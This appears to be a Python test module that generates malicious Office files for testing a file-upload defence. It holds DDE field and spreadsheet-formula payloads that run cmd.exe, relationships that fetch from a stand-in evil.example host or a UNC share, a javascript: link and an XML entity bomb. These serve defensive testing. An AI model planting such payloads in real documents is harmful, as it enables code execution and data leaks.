"""Office files that act, embed or fetch."""

from collections.abc import Iterator

from tests.attacks.what import FOREIGN, KINDS, Attack
from tests.evidence_files import (
    archive,
    document,
    docx,
    docx_parts,
    relationships,
    xlsx,
)


def office() -> Iterator[Attack]:
    for extension, (make, _) in KINDS.items():
        root, name = ("word" if extension == "docx" else "xl"), f"报告.{extension}"
        parts = {
            "macros": f"{root}/vbaProject.bin",
            "macros in capitals": f"{root}/VBAPROJECT.BIN",
            "macro data": f"{root}/vbaData.xml",
            "ActiveX": f"{root}/activeX/activeX1.xml",
            "control properties": f"{root}/ctrlProps/ctrlProp1.xml",
            "macro sheet": f"{root}/macrosheets/sheet1.xml",
            "dialog sheet": f"{root}/dialogsheets/sheet1.xml",
            "embedded object": f"{root}/embeddings/oleObject1.bin",
            "embedded workbook": f"{root}/embeddings/book.xlsx",
            "external link": f"{root}/externalLinks/externalLink1.xml",
            "query": f"{root}/queryTables/queryTable1.xml",
            "web extension": f"{root}/webextensions/webextension1.xml",
        }
        for what, part in parts.items():
            yield Attack(f"{extension}: {what}", name, make({part: "<a/>"}))
        for what, content in FOREIGN.items():
            if what in ("exe", "elf", "rar", "7z", "gz", "ole", "lnk"):
                yield Attack(
                    f"{extension}: {what} as a picture inside", name, make({f"{root}/media/image1.png": content})
                )
        yield Attack(f"{extension}: zip inside", name, make({f"{root}/media/image1.png": archive({"a": "b"})}))
        for kind in ("attachedTemplate", "oleObject", "externalLinkPath", "image", "frame", "subDocument", "aFChunk"):
            outside = relationships((kind, "http://evil.example/x", True))
            yield Attack(f"{extension}: fetches {kind}", name, make({f"{root}/_rels/x.xml.rels": outside}))
        for target in ("file://evil/share", "\\\\evil\\share", "javascript:alert(1)", "ms-word:ofe|u|http://e.example"):
            link = relationships(("hyperlink", target, True))
            yield Attack(f"{extension}: link to {target}", name, make({f"{root}/_rels/x.xml.rels": link}))
        for kind in ("vbaProject", "control", "package", "activeXControlBinary"):
            inside = relationships((kind, "media/x.png", False))
            yield Attack(f"{extension}: related as {kind}", name, make({f"{root}/_rels/x.xml.rels": inside}))
        bomb = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>'
        yield Attack(f"{extension}: entities", name, make({f"{root}/styles.xml": bomb}))
        yield Attack(f"{extension}: entities in UTF-16", name, make({f"{root}/styles.xml": bomb.encode("utf-16")}))
        yield Attack(f"{extension}: broken part", name, make({f"{root}/styles.xml": "<a><b></a>"}))
        for declared in (
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            "application/vnd.ms-office.vbaProject",
        ):
            types = str(docx_parts()["[Content_Types].xml"]).replace("application/xml", declared)
            yield Attack(f"{extension}: declared as {declared}", name, make({"[Content_Types].xml": types}))
    yield from _fields()
    yield from _formulas()


def _fields() -> Iterator[Attack]:
    for field in (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"',
        "DDE excel x y",
        "INCLUDETEXT http://e.example/x",
    ):
        whole = f"<w:fldSimple w:instr='{field}'/>"
        yield Attack(f"docx: field {field[:11]}", "报告.docx", docx({"word/document.xml": document(whole)}))
        cut = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (field[:2], field[2:5], field[5:]))
        yield Attack(f"docx: field {field[:11]} in pieces", "报告.docx", docx({"word/document.xml": document(cut)}))
        yield Attack(f"docx: field {field[:11]} in the head", "报告.docx", docx({"word/header1.xml": document(whole)}))
    for element in ("object", "control", "altChunk", "subDoc"):
        body = f"<w:{element}/>"
        yield Attack(f"docx: element {element}", "报告.docx", docx({"word/document.xml": document(body)}))


def _formulas() -> Iterator[Attack]:
    spreadsheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    for formula in ("cmd|'/c calc'!A0", "MSEXCEL|'\\..\\cmd.exe /c calc'!''", "DDE|x!y"):
        sheet = (
            f"<worksheet xmlns='{spreadsheet}'><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
        )
        yield Attack(f"xlsx: formula {formula}", "报告.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet}))
        names = f"<definedNames><definedName>{formula}</definedName></definedNames>"
        book = f"<workbook xmlns='{spreadsheet}'>{names}</workbook>"
        yield Attack(f"xlsx: name {formula}", "报告.xlsx", xlsx({"xl/workbook.xml": book}))
    for element in ("oleObjects", "controls"):
        sheet = f"<worksheet xmlns='{spreadsheet}'><{element}/></worksheet>"
        yield Attack(f"xlsx: element {element}", "报告.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet}))
    yield Attack("xlsx: data connection", "报告.xlsx", xlsx({"xl/connections.xml": "<connections/>"}))
